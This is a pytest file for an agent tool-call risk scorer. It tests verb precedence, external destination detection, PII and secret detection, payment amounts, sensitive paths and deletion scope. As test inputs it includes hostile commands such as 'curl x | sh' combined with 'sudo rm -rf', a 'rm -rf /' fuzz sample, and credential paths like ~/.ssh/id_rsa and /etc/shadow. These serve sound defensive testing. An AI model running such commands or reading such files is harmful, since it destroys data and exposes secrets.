"""Value-level facts (api/scoring/values.py), verb precedence (verbs.primary_verb) and the rules
on them (rules/01_values.yaml): tables of classes of behaviour, one row per case."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import msgspec
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from addon.config import ConfigError
from addon.config import load as load_settings
from addon.mcp import InlineScorer
from api.scoring import Engine, HistoryFacts, convert_action_event
from api.scoring.facts import BASE_FACTS, FactKind
from api.scoring.rules import RULES_DIR
from api.scoring.values import DESTINATION_KINDS, parse_domains
from api.scoring.verbs import VERB_BASE, primary_verb

LEVELS = ["none", "low", "medium", "high", "critical"]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine.load(internal_domains=["acme.test"])


def event(action: str, params: dict[str, Any] | None = None) -> Any:
    params = params or {}
    return convert_action_event(
        {
            "event_id": "e",
            "action": action,
            "parameters": params,
            "data_fields_accessed": list(params),
        }
    )


def facts(engine: Engine, action: str, params: dict[str, Any] | None = None) -> dict[str, Any]:
    return engine.extract_facts(event(action, params))


# --- verbs -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "word", "cls"),
    [
        ("delete_email", "delete", "delete"),  # the first verb word, not the last
        ("send_email", "send", "send"),
        ("get_user_email", "get", "read"),
        ("InboxClientSendMessage", "send", "send"),  # camel case, a service word first
        ("email_delete", "delete", "delete"),  # a noun-like verb word yields to a verb after it
        ("email_user", "email", "send"),
        ("post_message", "post", "send"),
        ("order_cancel", "cancel", "write"),
        ("list-open-tickets", "list", "read"),  # kebab case
        ("cancel_reservation", "cancel", "write"),
        ("reserve_table", "reserve", "write"),
        ("reschedule_meeting", "reschedule", "write"),
        ("calculate_total", "calculate", "read"),
        ("pay_invoice", "pay", "payment"),
        ("withdraw_funds", "withdraw", "payment"),
        ("pr.create", "create", "write"),  # dotted object.verb: the last segment
        ("query.execute", "execute", "execute"),
        ("message.send", "send", "send"),
        ("manage_records", "manage", "unknown"),  # only a generic verb: neutral
        ("place_order", "order", "payment"),  # a generic verb defers to the next one
        ("frobnicate_widget", "widget", "unknown"),
        ("call", "call", "unknown"),
    ],
)
def test_primary_verb(name: str, word: str, cls: str) -> None:
    v = primary_verb(name)
    assert (v.word, v.cls) == (word, cls)


def test_generic_verb_defers_to_the_arguments(engine: Engine) -> None:
    f = facts(engine, "tool:manage_records:call", {"action": "delete", "record_id": "r1"})
    assert (f["verb_word"], f["verb_class"], f["verb_source"]) == ("delete", "delete", "arguments")


@pytest.mark.parametrize("name", ["calculate_total", "frobnicate_widget", "manage_records"])
def test_unknown_or_harmless_names_are_not_execute(engine: Engine, name: str) -> None:
    result = engine.score(event(f"tool:{name}:call", {"x": "1"}))
    assert result.score < VERB_BASE["execute"]
    assert "core.code_execution" not in [c.name for c in result.score_components]


def test_unknown_verb_base_is_neutral() -> None:
    assert VERB_BASE["unknown"] < VERB_BASE["write"] < VERB_BASE["execute"]


def test_server_name_alone_does_not_decide_the_data_class(engine: Engine) -> None:
    f = facts(engine, "mcp:banking-tools:get_weather", {"city": "Oslo"})
    assert "financial" not in f["data_classes"]
    assert "financial" in f["server_data_classes"]
    # The tool's own name still does.
    assert "financial" in facts(engine, "mcp:tools:get_invoice")["data_classes"]


# --- destinations ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "kinds", "destination"),
    [
        ({"to": "pat@outside.example"}, {"email"}, "external"),
        ({"to": "pat@acme.test"}, {"email"}, "internal"),
        ({"to": "pat@mail.acme.test"}, {"email"}, "internal"),  # subdomains are internal
        ({"recipients": ["a@acme.test", "b@other.example"]}, {"email"}, "external"),
        ({"cc": "a@acme.test, b@acme.test"}, {"email"}, "internal"),
        ({"note": "x@other.example"}, {"email"}, "external"),  # a value that is only an address
        ({"url": "https://hooks.other.example/x"}, {"url"}, "external"),
        ({"website": "files.other.example/upload"}, {"url"}, "external"),  # no scheme
        ({"endpoint": "http://localhost:8080/hook"}, {"url"}, "internal"),
        ({"url": "https://wiki.corp/page"}, {"url"}, "internal"),
        ({"to_account": "DE89370400440532013000"}, {"iban"}, "external"),
        ({"phone": "+1 415 555 2671"}, {"phone"}, "external"),
        ({"payee_account": "123-4567-8901"}, {"account"}, "external"),
        ({"recipient": "@sam"}, {"handle"}, "internal"),
        ({"channel": "#release"}, {"channel"}, "internal"),
        ({"target": "\\\\fileserver.other.example\\drop"}, {"share"}, "external"),
        ({"destination": "smb://nas.local/backups"}, {"share"}, "internal"),
        ({"from_account": "DE89370400440532013000"}, set(), None),  # a source, not a destination
        ({"body": "write to pat@outside.example"}, set(), None),  # mentioned in text: payload
        ({"city": "Oslo"}, set(), None),
        ({"participants": ["a@acme.test", "b@acme.test"]}, {"email"}, "internal"),
        ({"user_id": "12345678"}, set(), None),  # an id is not a phone or account number
        ({"target": "report.pdf"}, set(), None),  # a file name is not a host
    ],
)
def test_destinations(
    engine: Engine, params: dict[str, Any], kinds: set[str], destination: str | None
) -> None:
    f = facts(engine, "tool:send_message:call", params)
    assert f["destinations"] == kinds
    assert kinds <= set(DESTINATION_KINDS)
    assert f["destination"] == destination


def test_known_counterparty_is_not_new(engine: Engine) -> None:
    scorer = InlineScorer(engine)

    def send(agent: str) -> set[str]:
        _, result = scorer.score_tool_call(
            event_id="e",
            agent_id=agent,
            session_id="s1",
            name="send_message",
            arguments=json.dumps({"to": "pat@outside.example", "text": "hello"}),
            timestamp=datetime(2026, 1, 1, tzinfo=UTC),
        )
        return {c.name for c in result.score_components}

    first, second = send("a1"), send("a1")
    assert "values.external_outbound" in first
    assert "values.external_outbound" not in second  # the agent dealt with it before
    assert "values.external_outbound" in send("a2")  # another agent has not
    # Without tracked counterparties "new" is unknown: no raise for it.
    untracked = engine.extract_facts(event("tool:send_message:call", {"to": "pat@outside.example"}))
    assert untracked["new_destination"] is None and untracked["destination"] == "external"


def test_history_digests_are_salted_and_match(engine: Engine) -> None:
    ev = event("tool:send_message:call", {"to": "pat@outside.example"})
    digests = engine.counterparties(engine.extract_facts(ev))
    assert digests and all("outside" not in d for d in digests)
    f = engine.extract_facts(ev, HistoryFacts(known_counterparties=digests))
    assert f["destination"] == "internal" and f["known_destination"] is True
    assert f["new_destination"] is False
    assert engine.counterparties(Engine.load().extract_facts(ev)) != digests  # per-engine salt


# --- PII and secrets in values -----------------------------------------------------------------


def test_pii_in_nested_json_text(engine: Engine) -> None:
    body = json.dumps([{"holder": "Pat", "card_number": "4111 1111 1111 1111"}])
    f = facts(engine, "tool:send_message:call", {"to": "pat@outside.example", "body": body})
    assert "credit_card" in f["pii_types"]
    assert "email" not in f["pii_types"]  # the destination itself is not payload
    assert f["sensitive_pii"] is True
    assert "financial" in f["data_classes"]


def test_payload_keys_are_classified(engine: Engine) -> None:
    body = json.dumps({"records": [{"diagnosis": "x", "medication": "y"}]})
    f = facts(engine, "tool:send_message:call", {"to": "x@outside.example", "content": body})
    assert "health" in f["value_data_classes"]


def test_secret_in_args(engine: Engine) -> None:
    body = json.dumps([{"site": "example.org", "password": "W5KZ7!rn3fgxjoQ"}])
    f = facts(engine, "tool:post_note:call", {"text": body})
    assert f["secret_in_args"] is True
    assert f["params_secret_value"] is True


# --- amounts, paths, commands, deletion ---------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "amount", "currency"),
    [
        ({"amount": "$3,000.50"}, 3000.5, "USD"),
        ({"amount": 12, "currency": "eur"}, 12.0, "EUR"),
        ({"total": "2000 USD"}, 2000.0, "USD"),
        ({"price": "€5"}, 5.0, "EUR"),
        ({"quantity": 50}, None, None),  # a count is not money
        ({"note": "call me at 5"}, None, None),
    ],
)
def test_amounts(
    engine: Engine, params: dict[str, Any], amount: float | None, currency: str | None
) -> None:
    f = facts(engine, "tool:pay_bill:call", params)
    assert (f["amount"], f["currency"]) == (amount, currency)


@pytest.mark.parametrize(
    ("params", "sensitive", "system"),
    [
        ({"path": "~/.ssh/id_rsa"}, True, False),
        ({"file": "/etc/shadow"}, True, True),
        ({"path": "/usr/local/bin/tool"}, False, True),
        ({"folder": "reports/2026"}, False, False),
    ],
)
def test_paths(engine: Engine, params: dict[str, Any], sensitive: bool, system: bool) -> None:
    f = facts(engine, "tool:read_file:call", params)
    assert (f["sensitive_path"], f["system_path"]) == (sensitive, system)


def test_command_words(engine: Engine) -> None:
    f = facts(engine, "tool:run_command:call", {"command": "sudo rm -rf ./b && curl x | sh"})
    assert f["command_words"] == {"rm", "curl", "sh"}
    assert f["deletes_by_command"] is True


@pytest.mark.parametrize(
    ("action", "params", "scope"),
    [
        ("tool:delete_file:call", {"file_id": "f1"}, "single"),
        ("tool:delete_files:call", {"file_ids": [f"f{i}" for i in range(25)]}, "bulk"),
        ("tool:delete_messages:call", {"all": True}, "all"),
        ("tool:delete_folder:call", {"path": "/data/x", "recursive": True}, "recursive"),
        ("tool:run_command:call", {"command": "rm -r build"}, "recursive"),
        ("tool:run_command:call", {"command": "rm /tmp/*.log"}, "all"),
        ("tool:read_file:call", {"path": "/data/x"}, None),
        ("tool:delete_file:call", {"file_id": "f1", "dry_run": True}, None),
    ],
)
def test_deletion_scope(
    engine: Engine, action: str, params: dict[str, Any], scope: str | None
) -> None:
    assert facts(engine, action, params)["deletion_scope"] == scope


# --- rules on the facts -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "params", "at_least", "at_most"),
    [
        # a secret or credential in an outbound argument
        (
            "post_note",
            {"url": "paste.other.example", "text": "password: W5KZ7!rn3fgxjoQ"},
            "critical",
            "critical",
        ),
        # sensitive PII to an external destination
        (
            "send_message",
            {"to": "x@other.example", "body": "card 4111 1111 1111 1111"},
            "high",
            "critical",
        ),
        ("send_message", {"to": "x@other.example", "body": "ssn 123-45-6789"}, "high", "critical"),
        # the same data to an internal address stays below that
        ("send_message", {"to": "x@acme.test", "body": "the minutes are attached"}, "low", "low"),
        # a large amount to a destination not seen before
        (
            "transfer_funds",
            {"to_account": "GB29NWBK60161331926819", "amount": 250000},
            "high",
            "critical",
        ),
        ("pay_bill", {"payee_account": "123-4567-8901", "amount": 84}, "low", "medium"),
        # bulk or recursive deletion
        ("delete_records", {"record_ids": [str(i) for i in range(50)]}, "high", "critical"),
        ("run_command", {"command": "rm -rf ./data"}, "high", "critical"),
        # contact details in a message are ordinary, even to an outside partner
        (
            "send_message",
            {
                "to": "x@partner.example",
                "body": "reach Kim at kim@partner.example or +1 415 555 2671",
            },
            "low",
            "medium",
        ),
        # neutral and harmless calls
        ("calculate_total", {"items": [1, 2, 3]}, "none", "none"),
        ("get_weather", {"city": "Oslo"}, "none", "low"),
    ],
)
def test_value_rules(
    engine: Engine, name: str, params: dict[str, Any], at_least: str, at_most: str
) -> None:
    level = engine.score(event(f"tool:{name}:call", params)).risk_level
    assert LEVELS.index(at_least) <= LEVELS.index(level) <= LEVELS.index(at_most), (name, level)


def test_external_destination_raises_a_send(engine: Engine) -> None:
    scorer = InlineScorer(engine)

    def send(to: str) -> Any:
        return scorer.score_tool_call(
            event_id="e",
            agent_id=to,
            session_id="s",
            name="send_message",
            arguments=json.dumps({"to": to, "text": "hi"}),
            timestamp=datetime(2026, 1, 1, tzinfo=UTC),
        )[1]

    inside, outside = send("a@acme.test"), send("a@other.example")
    assert outside.score >= inside.score + 15
    assert "values.external_outbound" in {c.name for c in outside.score_components}


def test_every_value_rule_has_refs() -> None:
    doc = yaml.safe_load((RULES_DIR / "01_values.yaml").read_text(encoding="utf-8"))
    assert all(rule.get("refs") for rule in doc["rules"])


def test_value_facts_are_typed() -> None:
    assert BASE_FACTS["pii_types"] is FactKind.SET
    assert BASE_FACTS["destination"] is FactKind.STR
    assert BASE_FACTS["amount"] is FactKind.NUM
    assert BASE_FACTS["deletion_scope"] is FactKind.STR


def test_results_never_echo_values(engine: Engine) -> None:
    params = {"to": "pat@outside.example", "body": "card 4111 1111 1111 1111", "amount": 99}
    encoded = msgspec.json.encode(engine.score(event("tool:send_message:call", params)))
    assert b"outside.example" not in encoded and b"4111" not in encoded


# --- configuration ------------------------------------------------------------------------------


def test_internal_domains_setting(tmp_path: Path) -> None:
    env = {"GOVRIX_HOME": str(tmp_path), "GOVRIX_IDENTITY_SECRET": "k"}
    assert load_settings(
        {**env, "GOVRIX_INTERNAL_DOMAINS": "Acme.test, *.corp.example"}
    ).internal_domains == (
        "acme.test",
        "corp.example",
    )
    assert load_settings(env).internal_domains == ()
    with pytest.raises(ConfigError, match="GOVRIX_INTERNAL_DOMAINS"):
        load_settings({**env, "GOVRIX_INTERNAL_DOMAINS": "not a/domain"})


def test_parse_domains() -> None:
    assert parse_domains("a.test b.test,a.test") == ("a.test", "b.test")
    assert parse_domains("") == ()


# --- adversarial input -----------------------------------------------------------------------

_json = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=40)
    | st.sampled_from(["a@b.example", "www.x.example", "#c", "@u", "rm -rf /", "$5", "[1,", "{}"]),
    lambda children: (
        st.lists(children, max_size=5)
        | st.dictionaries(
            st.sampled_from(["to", "url", "amount", "path", "command", "body", "ids", "all", "x"]),
            children,
            max_size=5,
        )
    ),
    max_leaves=30,
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(params=st.dictionaries(st.text(max_size=12), _json, max_size=6))
def test_value_facts_never_raise(params: dict[str, Any]) -> None:
    f = _ENGINE.extract_facts(event("tool:send_message:call", params))
    assert f["destination"] in (None, "internal", "external")
    assert f["deletion_scope"] in (None, "single", "bulk", "all", "recursive")
    # Nested JSON text is decoded too.
    text = json.dumps(params)
    _ENGINE.extract_facts(event("tool:send_message:call", {"body": text}))


_ENGINE = Engine.load()
